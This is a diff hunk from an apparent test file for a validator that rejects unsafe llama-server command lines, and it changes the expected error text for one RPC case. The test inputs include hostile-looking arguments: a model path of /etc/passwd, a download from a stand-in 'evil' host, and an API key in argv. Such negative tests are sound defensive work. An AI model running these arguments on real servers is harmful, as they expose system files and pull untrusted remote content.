@@ -73,7 +73,7 @@ def test_each_engine_parses_to_its_canonical_form(engine: str, argv: str, render
         ("llama.cpp", "llama-server -m /etc/passwd", "outside this host's model and cache roots"),
         ("llama.cpp", "llama-server -m /models/a.gguf -c 2048 --ctx-size 4096", "given twice"),
         ("llama.cpp", "llama-server -m /models/a.gguf --api-key k", "secrets never go in argv"),
-        ("llama.cpp", "llama-server -m /models/a.gguf --rpc 10.0.0.2:50052", "not an option"),
+        ("llama.cpp", "llama-server -m /models/a.gguf --rpc 10.0.0.2:50052", "RPC servers beyond"),
         ("llama.cpp", "llama-server -mu http://evil/model.gguf", "downloads a model from any URL"),
         ("llama.cpp", "llama-server -m /models/a.gguf --ctx", "not an option"),
         ("llama.cpp", "llama-server -m /models/a.gguf --slot-save-path /tmp", "outside this host's"),
